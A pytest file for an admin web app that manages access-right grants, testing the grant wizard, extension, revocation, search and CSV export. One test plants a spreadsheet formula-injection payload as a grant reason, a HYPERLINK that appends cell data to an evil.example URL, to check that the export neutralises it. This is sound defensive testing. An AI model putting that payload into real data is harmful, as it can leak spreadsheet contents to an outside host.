"""Task 5: the grant wizard (right, period prefilled at the maximum, reason, confirm), extend
(too long: say so and offer to start today; future start: pending warning, R6), revoke with a
reason, and the grant search with CSV export."""
import csv
import html
import io
from datetime import timedelta

from support import AN, BART, CHRIS, MERELBEKE, actor, counts
from support.admin import post, sign_in

from attribute_authority import clock, grants, relations
from attribute_authority.states import state_of


def text(response):
    return html.unescape(response.get_data(as_text=True))


def wizard(client, relation_id, **data):
    return post(client, f"/admin/relations/{relation_id}/grants/new", data)


def test_three_steps_then_confirm(client, db):
    today = clock.today()
    sign_in(client, AN, MERELBEKE)
    rel = relations.find_open(db, actor(db, AN), BART, MERELBEKE)
    first = client.get(f"/admin/relations/{rel.id}/grants/new")
    assert "demo-app-admin" in text(first) and "idbeheer-central-admin" not in text(first)
    period = wizard(client, rel.id, step="right", right="demo-app-admin")
    assert (today + timedelta(days=90)).isoformat() in text(period)  # end prefilled at the maximum
    too_long = wizard(client, rel.id, step="period", right="demo-app-admin",
                      start=today.isoformat(), end=(today + timedelta(days=91)).isoformat())
    assert too_long.status_code == 422 and "te lang" in text(too_long)
    reason = wizard(client, rel.id, step="period", right="demo-app-admin", start=today.isoformat(),
                    end=(today + timedelta(days=30)).isoformat())
    assert 'name="reason"' in text(reason)
    before = counts(db)
    confirm = wizard(client, rel.id, step="reason", right="demo-app-admin", start=today.isoformat(),
                     end=(today + timedelta(days=30)).isoformat(), reason="project X")
    assert "Bevestig toekenning" in text(confirm) and counts(db) == before
    done = wizard(client, rel.id, step="confirm", right="demo-app-admin", start=today.isoformat(),
                  end=(today + timedelta(days=30)).isoformat(), reason="project X")
    assert done.status_code == 302
    created = grants.search(db, actor(db, AN) and grants.authz.EVERYTHING,
                            grants.GrantFilter(rrn=BART, right="demo-app-admin"))[0]
    assert (created.end, created.reason) == (today + timedelta(days=30), "project X")


def test_confirm_with_a_future_start_warns_about_pending(client, db):
    today = clock.today()
    sign_in(client, AN, MERELBEKE)
    rel = relations.find_open(db, actor(db, AN), BART, MERELBEKE)
    start = today + timedelta(days=5)
    page = wizard(client, rel.id, step="reason", right="demo-app-admin", start=start.isoformat(),
                  end=(start + timedelta(days=10)).isoformat())
    assert "pas toegekend vanaf" in text(page)


def test_wizard_refusals_change_nothing(client, db):
    today = clock.today()
    sign_in(client, AN, MERELBEKE)
    rel = relations.find_open(db, actor(db, AN), BART, MERELBEKE)
    before = counts(db)
    overlap = wizard(client, rel.id, step="confirm", right="demo-app-reader", start=today.isoformat(),
                     end=(today + timedelta(days=10)).isoformat())
    assert overlap.status_code == 422 and "Verleng die toekenning" in text(overlap)
    past = wizard(client, rel.id, step="confirm", right="demo-app-admin",
                  start=(today - timedelta(days=1)).isoformat(), end=today.isoformat())
    assert past.status_code == 422 and "verleden" in text(past)
    central = wizard(client, rel.id, step="confirm", right="idbeheer-central-admin",
                     start=today.isoformat(), end=today.isoformat())
    assert central.status_code == 422
    assert wizard(client, rel.id, step="right").status_code == 422
    assert counts(db) == before


def test_extend_too_long_offers_start_today_then_confirm(client, db):
    today = clock.today()
    sign_in(client, AN, MERELBEKE)
    grant = grants.search(db, grants.authz.EVERYTHING, grants.GrantFilter(rrn=BART))[0]
    old_start = grant.start
    new_end = today + timedelta(days=365)
    refused = post(client, f"/admin/grants/{grant.id}/extend", {
        "step": "check", "start": old_start.isoformat(), "end": new_end.isoformat()})
    assert refused.status_code == 422
    page = text(refused)
    assert "te lang" in page and "Begin vandaag" in page
    check = post(client, f"/admin/grants/{grant.id}/extend", {
        "step": "check", "start": today.isoformat(), "end": new_end.isoformat()})
    assert check.status_code == 200 and "Bevestig verlenging" in text(check)
    db.expire_all()
    assert db.get(type(grant), grant.id).start == old_start  # nothing changed before confirming
    done = post(client, f"/admin/grants/{grant.id}/extend", {
        "step": "confirm", "start": today.isoformat(), "end": new_end.isoformat(), "reason": "verlengd"})
    assert done.status_code == 302
    db.expire_all()
    assert (db.get(type(grant), grant.id).start, db.get(type(grant), grant.id).end) == (today, new_end)


def test_extend_with_a_future_start_warns_that_the_grant_is_pending(client, db):
    today = clock.today()
    sign_in(client, AN, MERELBEKE)
    grant = grants.search(db, grants.authz.EVERYTHING, grants.GrantFilter(rrn=BART))[0]
    start = today + timedelta(days=3)
    check = post(client, f"/admin/grants/{grant.id}/extend", {
        "step": "check", "start": start.isoformat(), "end": (start + timedelta(days=30)).isoformat()})
    assert "geen toegang meer" in text(check)
    done = post(client, f"/admin/grants/{grant.id}/extend", {
        "step": "confirm", "start": start.isoformat(), "end": (start + timedelta(days=30)).isoformat()})
    assert done.status_code == 302
    assert "pas toegekend vanaf" in text(client.get(done.location))


def test_revoke_with_reason(client, db):
    today = clock.today()
    sign_in(client, AN, MERELBEKE)
    grant = grants.search(db, grants.authz.EVERYTHING, grants.GrantFilter(rrn=CHRIS, government=MERELBEKE))[0]
    assert "Herroep het recht" in text(client.get(f"/admin/grants/{grant.id}/revoke"))
    assert post(client, f"/admin/grants/{grant.id}/revoke", {"reason": "opdracht af"}).status_code == 302
    db.expire_all()
    revoked = db.get(type(grant), grant.id)
    assert state_of(revoked, today) == "revoked" and revoked.revoke_reason == "opdracht af"
    again = post(client, f"/admin/grants/{grant.id}/revoke", {"reason": "nog eens"})
    assert again.status_code == 422 and "herroepen" in text(again)


def test_search_by_state_and_reference_date_and_csv(client):
    today = clock.today()
    sign_in(client, AN, MERELBEKE)
    active = text(client.get("/admin/grants?state=active"))
    assert "Claes" in active and "De Smet" not in active  # only this government
    assert "Claes" not in text(client.get("/admin/grants?state=expired"))
    future = (today + timedelta(days=400)).isoformat()
    assert "Claes" in text(client.get(f"/admin/grants?state=expired&at={future}"))
    assert "Claes" in text(client.get("/admin/grants?right=demo-app-reader&category=employee"))
    exported = client.get("/admin/grants.csv?state=active")
    assert exported.mimetype == "text/csv"
    lines = exported.get_data(as_text=True).splitlines()
    assert lines[0].startswith("id,rijksregisternummer,naam,bestuur,recht")  # issue 13 p. 12
    assert any(",toegekend," in line for line in lines[1:])
    assert any(BART in line for line in lines) and all("44086" not in line for line in lines)


def test_the_csv_export_neutralises_a_reason_that_is_a_formula(client, db):
    """A reason typed as `=HYPERLINK(…)` opens in a spreadsheet as text, not as a live link."""
    formula = '=HYPERLINK("https://evil.example/?"&A2,"klik")'
    grants.add(db, actor(db, AN), CHRIS, MERELBEKE, "demo-app-reader", reason=formula)
    db.commit()
    sign_in(client, AN, MERELBEKE)
    exported = client.get("/admin/grants.csv?state=active").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(exported)))
    reasons = [r["reden"] for r in rows
               if r["rijksregisternummer"] == CHRIS and r["recht"] == "demo-app-reader"]
    assert reasons == ["'" + formula]
